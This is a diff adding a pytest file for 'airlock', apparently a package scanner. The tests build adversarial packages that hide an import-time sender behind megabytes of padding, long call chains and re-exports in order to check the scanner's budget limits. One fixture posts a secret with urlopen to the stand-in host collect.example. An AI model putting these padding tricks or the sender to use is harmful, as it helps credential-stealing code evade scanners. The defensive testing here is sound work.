@@ -1,0 +1,151 @@
+"""Size and count bounds of the walk of calls on import (ADR 0097).
+
+Each bound below stopped the reading silently: what lay past it was not followed, and the
+sender called on import was read only as code that runs when someone calls it: allowed. An
+insider who reads airlock's code pads one past the bound. Now what fits the budgets is read
+(a sender padded past 1 MiB is denied), and what does not is held.
+"""
+
+from __future__ import annotations
+
+import hashlib
+import itertools
+
+import pytest
+
+from airlock.domain.requests import Outcome
+from tests.unit.imports.packages.adversary import init, verdict_cases, vet_package
+from tests.unit.imports.packages.test_vet_deeper import HEAD, PADDING, SECRET, reexports, sender
+
+CALL_GO = "from ._impl import go\ngo()\n"
+# A comment line of 100 bytes, each different: padding the parser reads fast (the bounds
+# are on bytes) that does not compress past the archive reader's ratio bound.
+LINE = "# padding {0:08d} {1}\n"
+
+
+def padded(megabytes: float, tail: str) -> str:
+    """``tail`` after ``megabytes`` MiB of comment lines."""
+    count = int(megabytes * (1 << 20) / 100)
+    digest = hashlib.sha256
+    return "".join(LINE.format(i, digest(b"%d" % i).hexdigest()[:80]) for i in range(count)) + tail
+
+
+def docstring(megabytes: float, tail: str) -> str:
+    """``tail`` after a module docstring of ``megabytes`` MiB."""
+    return '"""' + padded(megabytes, "") + '"""\n' + tail
+
+
+def generated_table(megabytes: float, tail: str) -> str:
+    """A generated lookup table of ``megabytes`` MiB (pygments', idna's shape), then ``tail``."""
+    row = "    ('{0:06d}', 'U+{0:06X} LATIN LETTER GENERATED ENTRY {0}'),\n"
+    rows = int(megabytes * (1 << 20) / len(row.format(0)))
+    return "TABLE = [\n" + "".join(row.format(i) for i in range(rows)) + "]\n" + tail
+
+
+def chain(count: int, last: str = "send") -> str:
+    """``f0`` calls ``f1`` ... calls ``last``."""
+    names = [f"f{i}" for i in range(count)] + [last]
+    return "".join(f"def {a}(*a):\n    {b}(*a)\n" for a, b in itertools.pairwise(names))
+
+
+def spent_parse_budget() -> dict[str, str]:
+    """Four harmless modules of 1.1 MiB called on import first (they read the environment,
+    so the walk follows them), then the sender in a small module."""
+    files = {
+        f"evpkg/big{i}.py": padded(1.1, "import os\ndef burn():\n    return os.environ.get('X')\n")
+        for i in range(4)
+    }
+    calls = "".join(f"from .big{i} import burn as b{i}\nb{i}()\n" for i in range(4))
+    return {**files, "evpkg/__init__.py": calls + CALL_GO, "evpkg/_impl.py": HEAD + sender("go")}
+
+
+def homes(count: int) -> dict[str, str]:
+    """``count`` harmless classes of other modules made on import, then the sender's class."""
+    files = {
+        f"evpkg/c{i}.py": f"import os\nclass C{i}:\n    def __init__(self):\n"
+        "        self.x = os.environ.get('LANG')\n"
+        for i in range(count)
+    }
+    made = "".join(f"from .c{i} import C{i}\nC{i}()\n" for i in range(count))
+    files["evpkg/s.py"] = HEAD + (
+        "class S:\n    def __init__(self):\n"
+        f"        urllib.request.urlopen('https://collect.example/k', data={SECRET})\n"
+    )
+    return {**files, "evpkg/__init__.py": made + "from .s import S\nS()\n"}
+
+
+TOP_LEVEL_PADDING = "".join(f"x{i} = {i}\n" for i in range(25_000))
+
+# Read within the budgets: the chain is read whole, as a small module's is.
+DENIED = {
+    # 1.2 MiB of docstring, then the function that posts AWS_SECRET_ACCESS_KEY.
+    "sender-padded-past-1-mib-by-a-docstring": {
+        "evpkg/__init__.py": CALL_GO,
+        "evpkg/_impl.py": docstring(1.2, HEAD + sender("go")),
+    },
+    "sender-padded-past-1-mib-by-a-table": {
+        "evpkg/__init__.py": CALL_GO,
+        "evpkg/_impl.py": generated_table(1.2, HEAD + sender("go")),
+    },
+    # 25,000 assignments before the module imports urllib: its names past the top-level
+    # walk's budget were unbound, and ``urllib.request.urlopen`` was no sink.
+    "sender-after-25000-top-level-statements": {
+        "evpkg/__init__.py": CALL_GO,
+        "evpkg/_impl.py": TOP_LEVEL_PADDING + HEAD + sender("go"),
+    },
+}
+# Past the budgets: what was not read holds.
+HELD = {
+    "sender-past-the-archives-parse-budget": {
+        "evpkg/__init__.py": CALL_GO,
+        "evpkg/_impl.py": padded(4.2, HEAD + sender("go")),
+    },
+    "parse-budget-spent-by-four-modules-first": spent_parse_budget(),
+    "init-past-the-archives-parse-budget": {
+        "evpkg/__init__.py": padded(4.2, CALL_GO),
+        "evpkg/_impl.py": HEAD + sender("go"),
+    },
+    # More than 64 functions past the depth bound (deeper.MAX_RESUMED): 450 calls spend the
+    # applies first, so each resumed function keeps only the next.
+    "seventy-functions-past-the-resumed-bound": init(
+        HEAD + sender("send") + PADDING + chain(70) + "f0()\n"
+    ),
+    # Three calls deep per resumed walk: 200 functions need more than 64 resumed.
+    "two-hundred-functions-deep": init(HEAD + sender("send") + chain(200) + "f0()\n"),
+    "seventeen-re-exports": reexports(17),
+    "thirty-four-classes-of-other-modules-first": homes(34),
+}
+ALLOWED = {
+    # A large generated module (idna's, pygments') called on import, reading nothing sent.
+    "generated-table-called-on-import": {
+        "evpkg/__init__.py": CALL_GO,
+        "evpkg/_impl.py": generated_table(
+            1.2, "import os\ndef go():\n    return os.environ.get('LANG', TABLE[0])\n"
+        ),
+    },
+    # The padded sender, never called on import: a library's API.
+    "padded-sender-never-called": {
+        "evpkg/__init__.py": "from ._impl import go\n",
+        "evpkg/_impl.py": docstring(1.2, HEAD + sender("go")),
+    },
+    "too-large-sender-never-called": {
+        "evpkg/__init__.py": "from ._impl import go\n",
+        "evpkg/_impl.py": padded(4.2, HEAD + sender("go")),
+    },
+    # Deep on import, and nothing of the host's sent.
+    "two-hundred-functions-that-log": init(
+        "import logging\ndef send(*a):\n    logging.getLogger(__name__).debug('ready')\n"
+        + chain(200)
+        + "f0()\n"
+    ),
+    "seventeen-re-exports-never-called": {
+        **reexports(17),
+        "evpkg/__init__.py": "from .m0 import send\n",
+    },
+    "thirty-four-harmless-classes": {**homes(34), "evpkg/s.py": "class S:\n    pass\n"},
+}
+
+
+@pytest.mark.parametrize(("files", "expected"), verdict_cases(DENIED, HELD, ALLOWED))
+def test_bounds_of_the_walk(files: dict[str, str], expected: Outcome) -> None:
+    assert vet_package(files) is expected
